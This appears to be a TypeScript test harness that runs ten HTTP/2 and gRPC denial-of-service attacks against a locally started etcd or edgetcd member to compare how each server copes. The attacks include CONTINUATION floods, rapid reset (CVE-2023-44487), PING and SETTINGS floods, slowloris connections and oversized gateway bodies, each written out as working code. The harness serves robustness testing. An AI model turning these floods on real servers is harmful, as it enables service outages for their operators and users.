// Attacks on a member's client port, each a function of the port that returns
// what the bad client saw. They run against edgetcd (Node or Bun) and etcd
// alike, so the same attack gives the table's rows for all three.
import { create, toBinary } from "@bufbuild/protobuf";
import { Code, ConnectError, createClient } from "@connectrpc/connect";
import { createGrpcTransport } from "@connectrpc/connect-node";
import * as net from "node:net";
import { KV, Lease, LeaseKeepAliveRequestSchema, RangeRequestSchema } from "../../src/gen/etcdserverpb/rpc_pb.ts";
import { flood, frame, frameFlag, frameType, grpcMessage, grpcRequestHeaders, headerBlock, rawConnect, settingId } from "./raw-h2.ts";
import { mebibyte } from "./observe.ts";

export interface AttackResult {
  /** What the bad client saw, for the table. */
  seen: string;
  /** The HTTP/2 GOAWAY error code the server sent, if any. */
  goawayCode?: number;
  /** Figures an assertion may look at. */
  figures: Record<string, number>;
}

export interface ClientAttack {
  name: string;
  /** How far above its resting memory the member may go during this attack; the tier's default otherwise. */
  rssGrowthBytesMax?: number;
  run(clientPort: number, scale: number): Promise<AttackResult>;
}

const authority = (port: number) => `127.0.0.1:${port}`;
const encoder = new TextEncoder();
const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

function goawayText(code: number | undefined): string {
  return code === undefined ? "no GOAWAY" : `GOAWAY 0x${code.toString(16)}`;
}

/** Repeats `piece` to about 64 KiB, so the flood writes big batches without building frames one by one. */
function repeated(piece: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: Math.max(1, Math.floor((64 * 1024) / piece.length)) }, () => piece));
}

/** HEADERS that never end, then the same CONTINUATION frame (no END_HEADERS) again and again. */
function headerBlockFlood(name: string, continuationPayload: Uint8Array): ClientAttack {
  return {
    name,
    async run(port, scale) {
      const connection = await rawConnect(port);
      await connection.write(frame(frameType.headers, 0, 1, headerBlock(grpcRequestHeaders(authority(port), "/etcdserverpb.KV/Range"))));
      const batch = repeated(frame(frameType.continuation, 0, 1, continuationPayload));
      const sent = await flood(connection, () => batch, 100 * mebibyte * scale, 15_000 * scale);
      await connection.waitClosed(2000);
      connection.destroy();
      return {
        seen: `${(sent.bytesSent / mebibyte).toFixed(1)} MB sent; ${sent.closedByServer ? "closed by server" : "still open"}, ${goawayText(connection.goawayCode())}`,
        ...(connection.goawayCode() === undefined ? {} : { goawayCode: connection.goawayCode() }),
        figures: { bytesSent: sent.bytesSent, closedByServer: sent.closedByServer ? 1 : 0 },
      };
    },
  };
}

/** Empty CONTINUATION frames: 9 bytes each, which a cap on payload bytes alone never sees. */
const continuationFlood = headerBlockFlood("CONTINUATION flood (empty frames)", new Uint8Array(0));
/** A header block of 16 KiB literal fields per frame. */
const headerListFlood = headerBlockFlood("header list flood (16 KiB CONTINUATIONs)", headerBlock([["x-junk", "a".repeat(16_000)]]));

/** Opens streams (a Watch call each, never finished) on one connection and holds them. */
const manyStreams: ClientAttack = {
  name: "10,000 open streams on one connection",
  async run(port, scale) {
    const streams = Math.round(10_000 * scale);
    const connection = await rawConnect(port);
    const block = headerBlock(grpcRequestHeaders(authority(port), "/etcdserverpb.Watch/Watch"));
    for (let i = 0; i < streams; i += 500) {
      const frames: Buffer[] = [];
      for (let j = i; j < Math.min(streams, i + 500); j++) frames.push(frame(frameType.headers, frameFlag.endHeaders, 2 * j + 1, block));
      if (!(await connection.write(Buffer.concat(frames)))) break;
    }
    await sleep(3000);
    const refused = connection.receivedFrames(frameType.rstStream);
    const closed = connection.closed();
    connection.destroy();
    return {
      seen: `${streams} opened; ${refused} refused (RST_STREAM); ${closed ? "closed by server" : "open"}, ${goawayText(connection.goawayCode())}`,
      figures: { refused, closedByServer: closed ? 1 : 0 },
    };
  },
};

/**
 * A client that asks for a 1 MiB value again and again with a zero flow-control
 * window and never reads: every answer must wait in the server.
 */
const neverReadingReader: ClientAttack = {
  name: "reader that never opens its window (1 MiB answers)",
  // The attack asks the member to hold 750 MiB (scale 0.5). etcd 3.4 holds all
  // of it (+1127 MB in the same run); edgetcd runs 64 calls per connection at
  // a time and closes the connection once it takes nothing for 20 s: +150 MB
  // on Node, +415 MB on Bun, whose responses pass through more copies.
  rssGrowthBytesMax: 512 * mebibyte,
  async run(port, scale) {
    const kv = createClient(KV, createGrpcTransport({ baseUrl: `http://127.0.0.1:${port}` }));
    await kv.put({ key: encoder.encode("abuse/big"), value: new Uint8Array(mebibyte) });
    const connection = await rawConnect(port, { settings: [[settingId.initialWindowSize, 0]], neverRead: true });
    const block = headerBlock(grpcRequestHeaders(authority(port), "/etcdserverpb.KV/Range"));
    const body = grpcMessage(toBinary(RangeRequestSchema, create(RangeRequestSchema, { key: encoder.encode("abuse/big") })));
    const requests = Math.round(1500 * scale);
    let sent = 0;
    for (; sent < requests; sent++) {
      const streamId = 2 * sent + 1;
      const request = Buffer.concat([frame(frameType.headers, frameFlag.endHeaders, streamId, block), frame(frameType.data, frameFlag.endStream, streamId, body)]);
      // The socket is never read, so a server that stops reading us shows as a write that does not drain.
      const written = await Promise.race([connection.write(request), sleep(5000).then(() => false)]);
      if (!written) break;
    }
    await sleep(4000);
    const closed = connection.closed();
    connection.destroy();
    return { seen: `${sent} of ${requests} requests written; ${closed ? "closed by server" : "open"}`, figures: { sent, closedByServer: closed ? 1 : 0 } };
  },
};

/** One control frame that asks for an acknowledgement, as fast as the server takes it, never reading the acknowledgements. */
function controlFrameFlood(name: string, control: Buffer): ClientAttack {
  return {
    name,
    async run(port, scale) {
      const connection = await rawConnect(port, { neverRead: true });
      const batch = repeated(control);
      const sent = await Promise.race([
        flood(connection, () => batch, 50 * mebibyte * scale, 10_000 * scale),
        sleep(12_000 * scale).then(() => ({ bytesSent: -1, closedByServer: connection.closed() })),
      ]);
      const closed = connection.closed() || sent.closedByServer;
      connection.destroy();
      return {
        seen: `${sent.bytesSent < 0 ? "writes stalled" : `${(sent.bytesSent / mebibyte).toFixed(1)} MB sent`}; ${closed ? "closed by server" : "open"}`,
        figures: { closedByServer: closed ? 1 : 0 },
      };
    },
  };
}

const pingFlood = controlFrameFlood("PING flood, acks never read", frame(frameType.ping, 0, 0, new Uint8Array(8)));
const settingsFlood = controlFrameFlood("SETTINGS flood, acks never read", frame(frameType.settings, 0, 0));

/** HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487). */
const rapidReset: ClientAttack = {
  name: "rapid reset (HEADERS + RST_STREAM)",
  async run(port, scale) {
    const connection = await rawConnect(port);
    const block = headerBlock(grpcRequestHeaders(authority(port), "/etcdserverpb.KV/Range"));
    const cancel = Buffer.alloc(4);
    cancel.writeUInt32BE(0x8);
    let streamId = 1;
    const deadline = Date.now() + 8000 * scale;
    let pairs = 0;
    while (Date.now() < deadline && streamId < 2 ** 31 - 2000) {
      const frames: Buffer[] = [];
      for (let i = 0; i < 500; i++, streamId += 2) {
        frames.push(frame(frameType.headers, frameFlag.endHeaders, streamId, block), frame(frameType.rstStream, 0, streamId, cancel));
      }
      const written = await Promise.race([connection.write(Buffer.concat(frames)), sleep(5000).then(() => false)]);
      if (!written) break;
      pairs += 500;
    }
    const closed = connection.closed();
    connection.destroy();
    return { seen: `${pairs} reset streams; ${closed ? "closed by server" : "open"}, ${goawayText(connection.goawayCode())}`, figures: { pairs } };
  },
};

/** Connections that send a byte or a partial request and then nothing (slowloris), on both protocols. */
const slowConnections: ClientAttack = {
  name: "500 slow connections (undecided preface, partial HTTP/1.1 head)",
  async run(port, scale) {
    const count = Math.round(500 * scale);
    const sockets: net.Socket[] = [];
    for (let i = 0; i < count; i++) {
      const socket = net.connect(port, "127.0.0.1");
      socket.on("error", () => {});
      socket.write(i % 2 === 0 ? "P" : "GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ");
      sockets.push(socket);
    }
    await sleep(5000);
    const closed = sockets.filter((socket) => socket.destroyed || socket.readableEnded).length;
    for (const socket of sockets) socket.destroy();
    return { seen: `${count} held 5 s; ${closed} closed by server meanwhile`, figures: { closed } };
  },
};

/** Eight 50 MB JSON bodies at once to the gateway (a Range with a 37 MiB key). */
const gatewayHugeBodies: ClientAttack = {
  name: "8 × 50 MB gateway bodies at once",
  async run(port, scale) {
    const keyBytes = Math.round(37 * mebibyte * scale);
    const body = JSON.stringify({ key: Buffer.alloc(keyBytes, 0x61).toString("base64") });
    const statuses = await Promise.all(
      Array.from({ length: 8 }, async () => {
        try {
          const response = await fetch(`http://127.0.0.1:${port}/v3/kv/range`, { method: "POST", body, headers: { "content-type": "application/json" } });
          await response.arrayBuffer();
          return String(response.status);
        } catch (error) {
          return `failed (${(error as Error).message})`;
        }
      }),
    );
    const counts = new Map<string, number>();
    for (const status of statuses) counts.set(status, (counts.get(status) ?? 0) + 1);
    return {
      seen: [...counts].map(([status, n]) => `${n} × ${status}`).join(", "),
      figures: { ok: statuses.filter((status) => status === "200").length, tooLarge: statuses.filter((status) => status === "429").length },
    };
  },
};

/** One LeaseKeepAlive stream sending as fast as it can; every request must be answered or the stream ended with an error. */
const keepAliveFlood: ClientAttack = {
  name: "LeaseKeepAlive flood on one stream",
  async run(port, scale) {
    const transport = createGrpcTransport({ baseUrl: `http://127.0.0.1:${port}` });
    const lease = createClient(Lease, transport);
    const granted = await lease.leaseGrant({ TTL: 60n });
    const durationMs = 8000 * scale;
    let sent = 0;
    let answered = 0;
    let streamError: string | undefined;
    let streamErrorIsOurs = false;
    const request = create(LeaseKeepAliveRequestSchema, { ID: granted.ID });
    async function* requests() {
      const deadline = Date.now() + durationMs;
      while (Date.now() < deadline) {
        sent++;
        yield request;
        // Yield to the event loop now and then, or the responses are never read.
        if (sent % 256 === 0) await new Promise((resolve) => setImmediate(resolve));
      }
    }
    // A member that answers slowly still answers: the attacker gives up only
    // when nothing has come for `answerSilenceMsMax` (or at `attackMsMax`),
    // and then counts what was still owed as unanswered.
    const answerSilenceMsMax = 10_000;
    const attackMsMax = durationMs + 90_000;
    const abort = new AbortController();
    let lastAnswerAtMs = Date.now();
    const startedAtMs = Date.now();
    const watchdog = setInterval(() => {
      const now = Date.now();
      if (now - lastAnswerAtMs > answerSilenceMsMax || now - startedAtMs > attackMsMax) abort.abort();
    }, 250);
    try {
      for await (const _ of lease.leaseKeepAlive(requests(), { signal: abort.signal })) {
        answered++;
        lastAnswerAtMs = Date.now();
      }
    } catch (error) {
      streamError = (error as Error).message;
      // Our own giving up is not the server ending the stream: it means answers were still owed.
      streamErrorIsOurs = abort.signal.aborted || (error instanceof ConnectError && error.code === Code.DeadlineExceeded);
    } finally {
      clearInterval(watchdog);
    }
    return {
      seen: `${sent} sent, ${answered} answered${streamError === undefined ? "" : `, stream ended: ${streamError}`}`,
      figures: { sent, answered, endedByServerWithError: streamError !== undefined && !streamErrorIsOurs ? 1 : 0 },
    };
  },
};

export const clientAttacks: ClientAttack[] = [
  continuationFlood,
  headerListFlood,
  manyStreams,
  neverReadingReader,
  pingFlood,
  settingsFlood,
  rapidReset,
  slowConnections,
  gatewayHugeBodies,
  keepAliveFlood,
];
